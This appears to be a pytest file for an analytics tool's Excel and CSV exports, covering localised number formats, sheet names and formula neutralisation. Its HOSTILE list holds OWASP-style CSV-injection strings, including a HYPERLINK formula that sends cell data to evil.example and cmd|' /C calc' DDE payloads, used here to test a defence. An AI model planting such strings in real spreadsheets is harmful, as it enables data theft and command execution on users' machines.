"""Downloads for Excel (analytics/pack/export.py): CSV in the reader's language, formatted
.xlsx workbooks, formula cells neutralised, and the numbers of on-screen tables."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import UTC, date, datetime
from xml.etree import ElementTree

import polars as pl
import pytest

from analytics.pack.export import (
    cell_text,
    column_kind,
    column_texts,
    csv_bytes,
    neutralise,
    sheet_name,
    xlsx_bytes,
)

#: Strings a spreadsheet would run as formulas (OWASP's CSV injection examples).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
    "+49 170 5550001",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
]
_NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def read_xlsx(data: bytes) -> dict[str, list[list[object]]]:
    """Sheet name -> rows of cell values (strings as text, numbers as float), and the
    cells' number formats under ``"<sheet>:formats"`` (no spreadsheet library needed)."""
    book = zipfile.ZipFile(io.BytesIO(data))
    strings = [
        "".join(t.text or "" for t in si.iter(f"{{{_NS['x']}}}t"))
        for si in ElementTree.fromstring(book.read("xl/sharedStrings.xml")).findall("x:si", _NS)
    ]
    styles = ElementTree.fromstring(book.read("xl/styles.xml"))
    custom = {n.get("numFmtId"): n.get("formatCode") for n in styles.iter(f"{{{_NS['x']}}}numFmt")}
    xfs = styles.find("x:cellXfs", _NS).findall("x:xf", _NS)
    style_format = [custom.get(xf.get("numFmtId"), "") for xf in xfs]
    workbook = ElementTree.fromstring(book.read("xl/workbook.xml"))
    names = [s.get("name") for s in workbook.iter(f"{{{_NS['x']}}}sheet")]
    out: dict[str, list[list[object]]] = {}
    for i, name in enumerate(names, start=1):
        sheet = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{i}.xml"))
        rows, formats = [], []
        for row in sheet.iter(f"{{{_NS['x']}}}row"):
            values, fmts = [], []
            for cell in row.findall("x:c", _NS):
                assert cell.find("x:f", _NS) is None, "a formula in a download"
                v = cell.find("x:v", _NS)
                text = None if v is None else v.text
                if cell.get("t") == "s":
                    values.append(strings[int(text)])
                elif cell.get("t") == "b":
                    values.append(text == "1")
                else:
                    values.append(None if text is None else float(text))
                fmts.append(style_format[int(cell.get("s", 0))])
            rows.append(values)
            formats.append(fmts)
        out[name] = rows
        out[f"{name}:formats"] = formats
    return out


@pytest.mark.parametrize(
    ("name", "dtype", "kind"),
    [
        ("compliance", pl.Float64(), "share"),
        ("workload_ratio", pl.Float64(), "share"),
        ("ci_low", pl.Float64(), "share"),
        ("forecast_attainment", pl.Float64(), "share"),
        ("within_5_min", pl.Float64(), "share"),
        ("within_24_h", pl.Float64(), "share"),
        ("load", pl.Float64(), "share"),
        ("hours_over", pl.Float64(), "decimal"),
        ("attempts", pl.Int64(), "count"),
        ("started_at", pl.Datetime("us", "UTC"), "datetime"),
        ("day", pl.Date(), "date"),
        ("is_reached", pl.Boolean(), "bool"),
        ("lead_id", pl.String(), "text"),
    ],
)
def test_column_kind_follows_the_name_and_type(name, dtype, kind) -> None:
    assert column_kind(name, dtype) == kind


@pytest.mark.parametrize(
    ("value", "kind", "lang", "text"),
    [
        (1_000_000, "count", "de", "1.000.000"),
        (1_000_000, "count", "en", "1,000,000"),
        (0.9021, "share", "de", "90,2 %"),
        (0.9021, "share", "en", "90.2 %"),
        (0.511, "share", "de", "51,1 %"),
        (2772.06, "decimal", "de", "2.772,1"),
        (429423, "count", "de", "429.423"),
        (15.0, "decimal", "de", "15,0"),
        (-0.04, "decimal", "de", "-0,0"),
        (None, "share", "de", "–"),
    ],
)
def test_cell_text_writes_the_languages_numbers(value, kind, lang, text) -> None:
    assert cell_text(value, kind, lang) == text


def test_a_column_has_one_decimal_throughout() -> None:
    texts = column_texts(pl.Series("rate", [0.9591, 0.511, 1.0]), "de")
    assert texts == ["95,9 %", "51,1 %", "100,0 %"]
    assert {len(t.split(",")[1]) for t in texts} == {3}  # "9 %", "1 %", "0 %"


def test_neutralise_prefixes_every_formula_start_and_nothing_else() -> None:
    frame = pl.DataFrame({"note": [*HOSTILE, "ok = fine", None], "n": [-1, 2, 3, 4, 5, 6]})
    out = neutralise(frame)
    assert out["note"].to_list() == [*("'" + h for h in HOSTILE), "ok = fine", None]
    assert out["n"].to_list() == [-1, 2, 3, 4, 5, 6]  # numbers stay numbers


@pytest.mark.parametrize("lang", ["en", "de"])
def test_csv_neutralises_hostile_cells(lang) -> None:
    frame = pl.DataFrame({"note": HOSTILE})
    text = csv_bytes(frame, lang=lang).decode("utf-8-sig")
    separator = ";" if lang == "de" else ","
    cells = pl.read_csv(io.StringIO(text), separator=separator)["note"].to_list()
    assert cells == ["'" + h for h in HOSTILE]


def test_german_csv_has_bom_semicolons_decimal_commas_and_german_headers() -> None:
    frame = pl.DataFrame(
        {
            "compliance": [0.90214, None],
            "hours_over": [1234.56, 3.04],
            "attempts": [3, 1_000_000],
            "started_at": [datetime(2026, 10, 31, 23, 30, tzinfo=UTC), None],
            "day": [date(2026, 10, 5), None],
        }
    )
    data = csv_bytes(
        frame,
        lang="de",
        headers={"compliance": "Einhaltung (%)", "started_at": "MQL seit (Europe/Berlin)"},
        timezone="Europe/Berlin",
    )
    assert data.startswith(b"\xef\xbb\xbf")
    lines = data.decode("utf-8-sig").splitlines()
    assert lines == [
        "Einhaltung (%);hours_over;attempts;MQL seit (Europe/Berlin);day",
        "90,2;1234,6;3;01.11.2026 00:30:00;05.10.2026",  # local time: CET, the next day
        ";3,0;1000000;;",
    ]


def test_english_csv_keeps_commas_and_points() -> None:
    frame = pl.DataFrame({"rate": [0.5], "hours": [1.25]})
    assert csv_bytes(frame).decode() == "rate,hours\n50.0,1.2\n"


def test_xlsx_is_formatted_localised_and_free_of_formulas() -> None:
    frame = pl.DataFrame(
        {
            "lead_id": ["L1", "L2"],
            "note": [HOSTILE[0], "ok"],
            "compliance": [0.90214, None],
            "hours_over": [1234.56, 3.04],
            "attempts": [3, 12],
            "started_at": [datetime(2026, 10, 31, 23, 30, tzinfo=UTC), None],
        }
    )
    data = xlsx_bytes(
        {"Late: first touch?": frame},
        lang="de",
        headers={"lead_id": "Lead-ID", "compliance": "Einhaltung (%)"},
        timezone="Europe/Berlin",
    )
    book = read_xlsx(data)
    assert list(book) == ["Late first touch", "Late first touch:formats"]
    rows, formats = book["Late first touch"], book["Late first touch:formats"]
    assert rows[0] == ["Lead-ID", "note", "Einhaltung (%)", "hours_over", "attempts", "started_at"]
    # 2026-11-01 00:30 in Berlin as an Excel serial day number
    serial = (datetime(2026, 11, 1, 0, 30) - datetime(1899, 12, 30)).total_seconds() / 86400
    # text as it is (no "'" shown), as a text cell: read_xlsx fails on any formula
    assert rows[1][:5] == ["L1", HOSTILE[0], 0.902, 1234.6, 3.0]
    assert rows[1][5] == pytest.approx(serial)
    assert rows[2] == ["L2", "ok", 3.0, 12.0]  # empty cells are not written
    assert formats[1][2:] == ["0.0 %", "#,##0.0", "#,##0", "dd.mm.yyyy hh:mm"]


def test_xlsx_kinds_override_names_that_do_not_tell() -> None:
    frame = pl.DataFrame({"Quote": [0.25], "Ist": [41183.4]})
    book = read_xlsx(xlsx_bytes({"s": frame}, kinds={"Quote": "share", "Ist": "count"}))
    assert book["s"][1] == [0.25, 41183.0]
    assert book["s:formats"][1] == ["0.0 %", "#,##0"]


@pytest.mark.parametrize(
    ("name", "taken", "expected"),
    [
        ("Breaches: late / first touch?", set(), "Breaches late first touch"),
        ("x" * 40, set(), "x" * 31),
        ("KPIs", {"KPIs"}, "KPIs (2)"),
        ("[]", set(), "Sheet"),
    ],
)
def test_sheet_names_are_valid_and_unique(name, taken, expected) -> None:
    assert sheet_name(name, taken) == expected


def test_review_workbook_has_one_sheet_per_section_in_german(pack_de) -> None:
    book = read_xlsx(pack_de)
    sheets = [n for n in book if not n.endswith(":formats")]
    assert sheets == [
        "Zielerreichung und Zielpfad",
        "SLA-Scorecards",
        "KPIs",
        "Funnel",
        "Größte Verstöße",
        sheet_name("Haben die Warnungen gewirkt?"),
        sheet_name("Zuweisung oder Mitarbeiter?"),
        sheet_name("Was sich seit dem Vormonat geändert hat"),
        "Vorgeschlagene Maßnahmen",
        "Das geltende SLA",
    ]
    funnel = book["Funnel"]
    assert funnel[0][0] == "Phase" and funnel[1][0] == "Besucher"
    assert book["Funnel:formats"][1][4] == "0.0 %"  # the rate is a share, shown in percent
    for name in sheets:  # no code and no English word where the pack has a German one
        text = " ".join(str(c) for row in book[name] for c in row)
        assert not re.search(r"\b(missed|at_risk|marketing|sales)\b", text), name


@pytest.fixture(scope="module")
def pack_de() -> bytes:
    from analytics.config import load_config
    from analytics.demo import generate_demo
    from analytics.pack import build_pack, render_pack
    from analytics.tables import Tables

    cfg = load_config("data/sla.toml")
    end = datetime(2026, 11, 20, tzinfo=UTC)
    tables = Tables.from_frames(**generate_demo(cfg, leads=800, seed=3, end=end))
    pack = build_pack(tables, cfg, month="2026-11")
    return render_pack(pack, fmt="xlsx", lang="de")


def test_xlsx_shows_text_as_it_is_and_csv_still_guards_it() -> None:
    frame = pl.DataFrame({"change": ["-14", "+4.3 pp", *HOSTILE]})
    book = read_xlsx(xlsx_bytes({"s": frame}))  # read_xlsx fails on any formula
    assert [row[0] for row in book["s"][1:]] == ["-14", "+4.3 pp", *HOSTILE]
    cells = csv_bytes(frame).decode().splitlines()[1:]
    assert cells[:2] == ["'-14", "'+4.3 pp"]


# -- the app's downloads (dashboard/ui.py download) ------------------------------------------


class _Button:
    """Stands in for a column of the page: keeps what each download button would write."""

    def __init__(self, files: dict[str, bytes]) -> None:
        self.files = files

    def download_button(self, label, data, *, file_name, **kwargs) -> None:
        self.files[file_name] = data() if callable(data) else data


def _downloads(monkeypatch, frame: pl.DataFrame, lg: str, **kwargs) -> dict[str, bytes]:
    from analytics.config import load_config
    from dashboard import data, ui

    monkeypatch.setattr(data, "config", lambda: load_config("data/sla.toml"))
    files: dict[str, bytes] = {}
    monkeypatch.setattr(ui.st, "columns", lambda n: [_Button(files), _Button(files)])
    ui.download(frame, "x", lg, **kwargs)
    return files


def test_the_apps_downloads_guard_csv_and_show_xlsx_text_as_it_is(monkeypatch) -> None:
    files = _downloads(monkeypatch, pl.DataFrame({"lead_id": HOSTILE}), "en")
    assert pl.read_csv(io.BytesIO(files["x.csv"])).to_series(0).to_list() == [
        "'" + h for h in HOSTILE
    ]
    assert [row[0] for row in read_xlsx(files["x.xlsx"])["x"][1:]] == HOSTILE


def _kpis() -> pl.DataFrame:
    """Three KPIs of three units: a count, a rate (1.83 %: 0.0 rounded as a decimal; up
    0.26 percentage points) and hours."""
    return pl.DataFrame(
        {
            "team": ["marketing", "marketing", "sales"],
            "metric": ["mqls", "visitor_to_lead", "median_hours_to_first_touch"],
            "label": ["MQLs delivered", "Visitor -> lead", "Median hours to first touch"],
            "direction": ["at_least", "at_least", "at_most"],
            "value": [878.0, 0.0183, 3.75],
            "target": [700.0, 0.015, 8.0],
            "previous": [970.0, 0.0157, 4.25],
            "change": [-92.0, 0.0026, -0.5],
            "status": ["met", "met", "met"],
            "reason": [None, None, None],
            "full_target": [700.0, 0.015, 8.0],
        }
    )


@pytest.mark.parametrize(
    ("lang", "lines"),
    [
        ("en", [
            "Team,Metric key,Metric,Direction,Unit,Value,Target,Previous month,Change,"
            "Target of the whole month,Status,Reason",
            "Marketing,mqls,MQLs delivered,at least,count,878,700,970,-92,700,met,",
            "Marketing,visitor_to_lead,Visitor → lead,at least,%,1.8,1.5,1.6,0.3,1.5,met,",
            "Sales,median_hours_to_first_touch,Median hours to first touch,at most,h,3.8,8.0,"
            "4.2,-0.5,8.0,met,",
        ]),
        ("de", [
            "Team;Kennzahl-Schlüssel;Kennzahl;Richtung;Einheit;Wert;Ziel;Vormonat;Veränderung;"
            "Ziel des ganzen Monats;Status;Grund",
            "Marketing;mqls;Gelieferte MQLs;mindestens;Anzahl;878;700;970;-92;700;erfüllt;",
            "Marketing;visitor_to_lead;Besucher → Lead;mindestens;%;1,8;1,5;1,6;0,3;1,5;erfüllt;",
            "Vertrieb;median_hours_to_first_touch;Median der Stunden bis zum Erstkontakt;"
            "höchstens;h;3,8;8,0;4,2;-0,5;8,0;erfüllt;",
        ]),
    ],
)  # fmt: skip
def test_the_kpi_download_writes_each_row_in_its_metrics_unit(monkeypatch, lang, lines) -> None:
    from types import SimpleNamespace

    from analytics.config import load_config
    from dashboard import ui

    review = SimpleNamespace(kpis=_kpis(), kpi_reason=lambda row, lang="en": None)
    config = load_config("data/sla.toml")
    # the KPI labels are the month's version's (ui.kpi_label): no warehouse here, one version
    monkeypatch.setattr(ui.data, "config", lambda: config)
    monkeypatch.setattr(ui.data, "default_month", lambda: "2026-10")
    monkeypatch.setattr(ui.data, "month_config", lambda month: config)
    monkeypatch.setattr(ui.data, "versions", lambda: ())
    frame, kinds = ui.kpi_download(review, lang)
    files = _downloads(monkeypatch, frame, lang, kinds=kinds)
    assert files["x.csv"].decode("utf-8-sig").splitlines() == lines
    book = read_xlsx(files["x.xlsx"])
    assert [row[5:10] for row in book["x"][1:]] == [
        [878.0, 700.0, 970.0, -92.0, 700.0],
        [0.018, 0.015, 0.016, 0.3, 0.015],  # the change in percentage points
        [3.8, 8.0, 4.2, -0.5, 8.0],
    ]
    assert [row[5] for row in book["x:formats"][1:]] == ["#,##0", "0.0 %", "#,##0.0"]
    pp = "pp" if lang == "en" else "Pp."
    assert book["x:formats"][2][8] == f'+0.0 "{pp}";-0.0 "{pp}";0.0 "{pp}"'  # +0.3 pp


@pytest.mark.parametrize(
    ("metric", "value", "lang", "app", "pack"),
    [
        ("premature_recycles", 5 * 3 / 31, "en", "0.5", "0.5"),  # a pro-rated target: not 0
        ("mqls", 700 * 3 / 31, "de", "67,7", "67,7"),
        ("mqls", 700.0, "de", "700", "700"),  # a whole count stays whole
        ("handoff_compliance", 0.9, "en", "90.0 %", "90.0 %"),
        ("median_hours_to_first_touch", 3.75, "en", "3.8 h", "3.8 h"),
    ],
)  # fmt: skip
def test_the_app_and_the_pack_write_a_kpi_number_alike(metric, value, lang, app, pack):
    from analytics.pack.formatting import format_metric
    from dashboard.ui import fmt_metric

    assert fmt_metric(metric, value, lang) == app
    assert format_metric(metric, value, lang=lang) == pack
